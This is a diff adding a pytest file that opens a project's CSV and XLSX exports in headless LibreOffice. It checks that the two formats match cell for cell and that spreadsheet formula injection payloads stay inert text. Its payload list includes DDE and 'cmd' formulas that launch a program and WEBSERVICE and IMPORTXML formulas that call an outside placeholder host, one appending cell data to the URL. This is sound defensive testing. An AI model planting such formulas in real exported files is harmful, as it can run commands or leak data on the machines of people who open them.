@@ -1,0 +1,81 @@
+"""Our files as LibreOffice opens them: the consumer judges."""
+
+import datetime
+import shutil
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import bson
+import pydantic
+import pytest
+
+from tests.spreadsheets.files import csv_rows, export
+
+pytestmark = [
+    pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice"),
+    pytest.mark.slow,
+]
+
+
+class Thing(pydantic.BaseModel):
+    text: str | None = None
+    number: float | None = None
+    flag: bool | None = None
+    other: Any = None
+    moment: datetime.datetime | None = None
+
+
+MOMENT = datetime.datetime(2026, 1, 2, 3, 4, 5, tzinfo=datetime.UTC)
+DOCUMENTS: list[dict[str, Any]] = [
+    {"text": "王小明", "number": 1.5, "flag": True, "other": [1, "二"], "moment": MOMENT},
+    {"text": "007", "number": -3, "flag": False, "other": bson.ObjectId("65a1b2c3d4e5f60718293a4b")},
+    {"text": 'a,b "c"\nd', "number": None, "other": {"x": "😀"}},
+    {"text": "1E5", "number": 999_999_999_999_999, "other": 2**63 - 1},
+    {"text": "مرحبا", "other": bson.Decimal128("1.10")},
+    {"text": "_x0041_ <&>", "other": "2026-01-02"},
+    {"text": " spaces ", "other": float("inf")},
+]
+PAYLOADS = [
+    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=SUM(1,1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x.invalid","y")',
+    "=WEBSERVICE(\"http://x.invalid\")", "\t=1+1", "\r=1+1", "=1+1\";=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
+    "'=1+1", "=IMPORTXML(CONCAT(\"http://x.invalid\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
+]  # fmt: skip
+
+
+def through_libreoffice(data: bytes, extension: str, folder: Path) -> list[list[str]]:
+    source = folder / f"in.{extension}"
+    source.write_bytes(data)
+    options = "44,34,76,1,,0,false,true,false"  # comma, quote, UTF-8, from row 1; texts as they are, cells as shown
+    command = [
+        "soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless",
+        *(["--infilter=CSV:44,34,76,1,,0,false,false,false"] if extension == "csv" else []),
+        "--convert-to", f"csv:Text - txt - csv (StarCalc):{options}", "--outdir", str(folder / "out"), str(source),
+    ]  # fmt: skip
+    subprocess.run(command, check=True, capture_output=True, timeout=120)
+    return csv_rows((folder / "out" / "in.csv").read_bytes())
+
+
+def as_csv_shows(cell: str) -> str:
+    """LibreOffice shows TRUE and FALSE, and a moment in the format of its cell."""
+    moment = f"{MOMENT:%Y-%m-%d %H:%M:%S}"
+    return {"TRUE": "true", "FALSE": "false", moment: "2026-01-02T03:04:05Z"}.get(cell, cell)
+
+
+def test_csv_and_xlsx_are_equal_cell_for_cell(tmp_path: Path) -> None:
+    opened = through_libreoffice(export("xlsx", Thing, DOCUMENTS), "xlsx", tmp_path)
+    assert [list(map(as_csv_shows, row)) for row in opened] == csv_rows(export("csv", Thing, DOCUMENTS))
+
+
+@pytest.mark.parametrize("extension", ["csv", "xlsx"])
+def test_formula_payloads_are_inert(extension: str, tmp_path: Path) -> None:
+    documents = [{"text": payload} for payload in PAYLOADS]
+    opened = through_libreoffice(export(extension, Thing, documents, "text"), extension, tmp_path)
+    guard = "'" if extension == "csv" else ""
+    lines = "\n".join(row[0] for row in opened[1:]).replace("\r", "\n")
+    assert lines == "\n".join(guard + payload for payload in PAYLOADS).replace("\r", "\n")
+
+
+def test_libreoffice_would_run_a_formula_that_is_kept(tmp_path: Path) -> None:
+    data = export("csv", Thing, [{"text": "=1+1"}], "text", formulas="keep")
+    assert through_libreoffice(data, "csv", tmp_path) == [["text"], ["2"]]
